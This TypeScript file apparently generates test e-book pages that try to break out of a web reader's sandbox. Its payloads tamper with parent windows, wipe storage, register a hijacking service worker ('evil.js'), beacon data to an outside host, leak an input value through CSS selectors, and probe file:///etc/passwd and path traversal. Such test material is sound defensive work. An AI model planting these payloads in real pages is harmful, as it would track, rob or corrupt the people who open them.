// Reaching out: to the network, to the app around the page, to what the browser keeps, and away from the page.

import { type Case, type Outside, PRESS, TRACE, act, declare, escaped, page } from "./case";

/** A book that declares half the world, in the hope that a policy is written from what it says. */
function declared(out: Outside): Case {
  const host = new URL(out("x")).origin;
  const made = page(
    "Declared Elsewhere",
    "what the manifest says of other hosts, with nobody asked",
    `<audio src="${out("declared-sound")}" autoplay="autoplay" preload="auto"></audio><video src="${out("declared-film")}" poster="${out("declared-poster")}" autoplay="autoplay"><track default="default" src="${out("declared-track")}"/></video>` +
      `<img alt="out" src="${out("declared-picture")}"/><p class="far">Far</p><iframe title="out" src="${out("declared-frame")}"></iframe><script src="${out("declared-script")}"></script>`,
    {
      css: `@font-face { font-family: far; src: url(${out("declared-face")}) } .far { font-family: far }`,
      head: `<link rel="stylesheet" href="${out("declared-sheet")}"/><link rel="pronunciation" type="application/pls+xml" href="${out("declared-lexicon")}"/>`,
    },
  );
  const items = [
    [out("declared-sound"), "audio/mpeg"],
    [out("declared-film"), "video/mp4"],
    [out("declared-face"), "font/woff2"],
    [out("declared-picture"), "image/png"],
    [out("declared-script"), "text/javascript"],
    [out("declared-sheet"), "text/css"],
    [out("declared-frame"), "application/xhtml+xml"],
    [out("declared-lexicon"), "application/pls+xml"],
    [`${host}; script-src * 'unsafe-inline'; img-src *`, "audio/mpeg"],
    ["https://*/", "audio/mpeg"],
    ["https:", "video/mp4"],
    ["*", "font/otf"],
    [`//${new URL(host).host}/no-scheme`, "audio/mpeg"],
    ["javascript:alert(1)", "audio/mpeg"],
  ];
  declare(made.files, items.map(([href, type], index) => `<item id="declared-${index}" href="${escaped(href)}" media-type="${type}"/>`).join(""), '<itemref idref="declared-6" linear="no"/>');
  return made;
}

export function reach(outside: Outside): Case[] {
  const run = (how: string) => act(outside, how);
  const out = (what: string) => outside(what);
  const host = new URL(out("x")).host;
  const pressed = (how: string, inner: string) => `<p><a class="${PRESS}" ${inner}>${how}</a></p>`;
  const script = (text: string) => `<script>${escaped(text)}</script><p class="${PRESS}" onclick="${escaped(text)}">Press</p><img alt="gone" src="gone.png" onerror="${escaped(text)}"/>`;
  return [
    declared(out),
    page(
      "The Window Around",
      "parent, top, opener, frames and messages",
      script(
        `for (const w of [parent, top, opener, frames[0], window.frameElement && frameElement.ownerDocument.defaultView]) try { w["${TRACE}"] = 1; w.document.title = "${TRACE}"; w.postMessage("${TRACE}", "*"); w.document.body.append("${TRACE}") } catch (e) {}` +
          `new BroadcastChannel("${TRACE}").postMessage(1); parent.location = "${out("parent")}"; top.location.replace("${out("top")}"); history.pushState(0, "", "/${TRACE}")`,
      ),
    ),
    page(
      "What Is Kept",
      "localStorage, IndexedDB, caches, cookies and the service worker",
      script(
        `localStorage["${TRACE}"] = 1; sessionStorage["${TRACE}"] = 1; localStorage.clear(); indexedDB.open("${TRACE}"); indexedDB.deleteDatabase("yueli"); document.cookie = "${TRACE}=1; path=/";` +
          `caches.open("${TRACE}").then((c) => c.put("/", new Response("${TRACE}"))); navigator.serviceWorker.register("evil.js", { scope: "/" }); navigator.serviceWorker.getRegistrations().then((all) => all.forEach((one) => one.unregister()))`,
      ),
      { extra: { "evil.js": `self.addEventListener("fetch", (event) => event.respondWith(new Response("${TRACE}")))` } },
    ),
    page(
      "The Network by Script",
      "every call that sends something",
      script(
        `fetch("${out("fetch")}", { mode: "no-cors" }); navigator.sendBeacon("${out("beacon")}"); new WebSocket("ws://${host}/socket"); new EventSource("${out("events")}"); const x = new XMLHttpRequest(); x.open("GET", "${out("xhr")}"); x.send();` +
          `import("${out("import")}"); new Worker("${out("worker")}"); new Audio("${out("audio")}").play(); new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }] }).createDataChannel("a"); open("${out("open")}")`,
      ),
    ),
    page(
      "The Network by Markup",
      "elements that load by themselves",
      `<img alt="out" src="${out("image")}" srcset="${out("srcset")} 2x"/><picture><source srcset="${out("picture")}"/><img alt="out" src="${out("picture-image")}" loading="eager"/></picture>` +
        `<video src="${out("video")}" poster="${out("poster")}" autoplay="autoplay" preload="auto"><track default="default" src="${out("track")}"/></video><audio src="${out("audio")}" autoplay="autoplay"/>` +
        `<iframe title="out" src="${out("frame")}"></iframe><object data="${out("object")}"></object><embed src="${out("embed")}"/><input type="image" alt="out" src="${out("input")}"/>` +
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${out("svg-image")}" width="9" height="9"/><use href="${out("use")}#a"/><filter id="f"><feImage href="${out("fe-image")}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>` +
        `<img alt="out" src="//${host}/no-scheme"/><img alt="out" src="\\\\${host}\\backslashes"/><img alt="out" src="/\\${host}/mixed"/>`,
      { head: `<link rel="icon" href="${out("icon")}"/><link rel="stylesheet" href="${out("sheet")}"/>` },
    ),
    page("Ahead of Time", "links that open connections and show nothing", `<link rel="prefetch" href="${out("body-prefetch")}"/><p>Nothing to see.</p>`, {
      head: ["prefetch", "prerender", "preconnect", "dns-prefetch", "preload", "modulepreload", "manifest", "alternate prefetch", "pingback"]
        .map((rel, index) => `<link rel="${rel}" href="${out(`ahead-${index}`)}" as="image"/>`)
        .concat(`<link REL="stylesheet" rel="prefetch" href="${out("twice")}"/>`, `<meta http-equiv="x-dns-prefetch-control" content="on"/>`)
        .join(""),
    }),
    page(
      "Style Sheets",
      "everything that CSS loads, or once ran",
      `<p class="far ${PRESS}" style="background: url(${out("attribute")}); behavior: url(${out("behavior")}); -moz-binding: url(${out("binding")}#x); width: expression(${run("expression")})">Far</p>` +
        `<input id="secret" value="a"/><ul style="list-style: url('${out("list")}')"><li>a</li></ul><p style="cursor: url(${out("cursor")}), auto; content: url(${out("content")})">b</p>`,
      {
        head: `<style>@import "${out("style-import")}"; @import url(${out("style-import-url")}); @namespace "${out("namespace")}";</style><link rel="stylesheet" href="data:text/css,@import '${out("data-import")}'"/>`,
        css:
          `@charset "utf-8"; @import "${out("import")}"; @im\\70ort "${out("escaped-import")}"; @font-face { font-family: far; src: url(${out("font")}), u\\72l("${out("escaped-font")}") }` +
          `.far { font-family: far; background-image: image-set("${out("image-set")}" 1x); mask: url(${out("mask")}#m); filter: url(${out("filter")}#f); border-image: url(${out("border")}) 1 }` +
          `#secret[value^="a"] { background: url(${out("selector")}) } p::after { content: url(javascript:${encodeURIComponent(run("css"))}) } @page { background: url(${out("page")}) }`,
      },
    ),
    page("Refreshed", "meta refresh in the head, in the body and in a drawing", `<meta http-equiv="refresh" content="0;url=${out("body")}"/><svg xmlns="http://www.w3.org/2000/svg"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${out("svg")}"/></svg>`, {
      head:
        `<meta http-equiv="refresh" content="0;url=${out("head")}"/><meta HTTP-EQUIV="content-type" http-equiv="ReFresh" content="0; URL='${out("twice")}'"/>` +
        `<meta http-equiv="refresh" content="0;url=javascript:${run("refresh")}"/><meta http-equiv="refresh" content="0;url=data:text/html,x"/><meta http-equiv="set-cookie" content="${TRACE}=1"/>`,
    }),
    page("Another Base", "base elements", `<base href="${out("body-base")}/"/><img alt="out" src="relative.png"/>${pressed("relative", 'href="relative.xhtml"')}`, { head: `<base href="${out("base")}/" target="_top"/>` }),
    page(
      "Ways Out",
      "links and targets that leave the page",
      ["_top", "_parent", "_blank", "somebody"].map((target) => pressed(target, `href="${out(target.slice(1))}" target="${target}" rel="opener"`)).join("") +
        pressed("ping", `href="#x" ping="${out("ping")}"`) + pressed("download", `href="c02.xhtml" download="a.exe"`) +
        pressed("slashes", `href="\\\\${host}\\a"`) + pressed("file", `href="file:///etc/passwd"`) + pressed("blob", `href="blob:${out("blob")}"`) + pressed("intent", `href="intent://${host}#Intent;end"`),
    ),
    page(
      "The Library's Own",
      "the library's addresses as pictures, frames, styles and links",
      ["/opds", "../../../opds", "..\\..\\..\\opds", "%2e%2e/%2e%2e/%2e%2e/opds", "/.//opds", "/", "/sw.js", "/healthz", "/read/x", "/book/another/OPS/c01.xhtml"]
        .map((href) => `<img alt="own" src="${href}"/><iframe title="own" src="${href}"></iframe><object data="${href}"></object>${pressed("own", `href="${href}"`)}`)
        .join(""),
      { head: '<link rel="stylesheet" href="/opds"/><link rel="stylesheet" href="../../../index.html"/>' },
    ),
  ];
}
